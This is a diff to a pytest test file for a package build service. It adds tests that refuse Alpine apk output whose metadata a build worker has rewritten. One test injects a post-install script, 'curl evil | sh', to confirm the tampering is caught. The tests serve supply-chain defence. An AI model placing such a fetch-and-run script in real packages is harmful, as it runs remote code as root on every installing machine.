@@ -172,7 +172,8 @@ def site(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterat
         )
 
 
-ATTACKS = ("name", "version", "extra", "signed-0", "signed-1", "seal", "failed")
+ATTACKS = ("name", "version", "extra", "signed-0", "signed-1", "seal", "failed", "script")
+ATTACKS += tuple(f"meta-{n}" for n in ("provides", "replaces", "priority", "depends", "license"))
 
 
 def _config(site: Site, repo: Path, cache: Path) -> BuildConfig:
@@ -524,4 +525,67 @@ def test_output_sealed_by_another_worker_or_tampered_is_refused_before_accept(
     # w1's genuine output presented for another job
     with pytest.raises(TrustError, match="answers job"):
         receive(sealed, job="f" * 64)
+    assert _nothing_published(repo)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("name", "change", "message"),
+    [
+        # take over another package's name: resolvers would pick hello for libc's dependents
+        (
+            "provides",
+            lambda info: info.provides.append("so:libc.musl-x86_64.so.1=1"),
+            r"hello-1\.0-r0\.apk: refused: provides \[.*'so:libc\.musl-x86_64\.so\.1=1'",
+        ),
+        (
+            "replaces",
+            lambda info: info.replaces.append("busybox"),
+            "replaces \\['busybox'\\], the recipe",
+        ),
+        (
+            "priority",
+            lambda info: setattr(info, "provider_priority", 999),
+            "provider_priority 999, the",
+        ),
+        ("depends", lambda info: info.depends.clear(), "depends \\[\\], the recipe and files"),
+        ("license", lambda info: setattr(info, "license", "Proprietary"), "license 'Proprietary'"),
+    ],
+)
+def test_package_metadata_the_recipe_does_not_give_is_refused(
+    site: Site, remote: SimpleNamespace, name: str, change: Any, message: str
+) -> None:
+    """The worker keeps the job's name, version and recipe hash but rewrites .PKGINFO: the
+    control plane re-derives it from the recipe and the returned files; nothing published."""
+    accept, repo = _fresh_accept(site, f"meta-{name}")
+    with pytest.raises(TrustError, match=message):
+        accept(remote.inputs, _reworked(remote.output, change), "w1")
+    assert _nothing_published(repo)
+
+
+@pytest.mark.slow
+def test_an_install_script_the_recipe_does_not_have_is_refused(
+    site: Site, remote: SimpleNamespace
+) -> None:
+    """A post-install script (run as root by apk on every machine installing hello) added by
+    the worker: refused, nothing published."""
+    packages = []
+    for item in remote.output["packages"]:
+        data = base64.b64decode(item["data"])
+        if item["file"].startswith("hello-1"):
+            apk = read_apk(data, where=item["file"])
+            data = write_apk(
+                apk.info.copy(),
+                apk.entries,
+                key=None,
+                source_date_epoch=apk.info.builddate or 0,
+                scripts={**apk.scripts, "post-install": b"#!/bin/sh\ncurl evil | sh\n"},
+                extra_control=apk.extra_control,
+            )
+        packages.append({**item, "data": base64.b64encode(data).decode()})
+    accept, repo = _fresh_accept(site, "script")
+    with pytest.raises(
+        TrustError, match=r"install scripts \['\.post-install'\], the recipe has \[\]"
+    ):
+        accept(remote.inputs, {**remote.output, "packages": packages}, "w1")
     assert _nothing_published(repo)
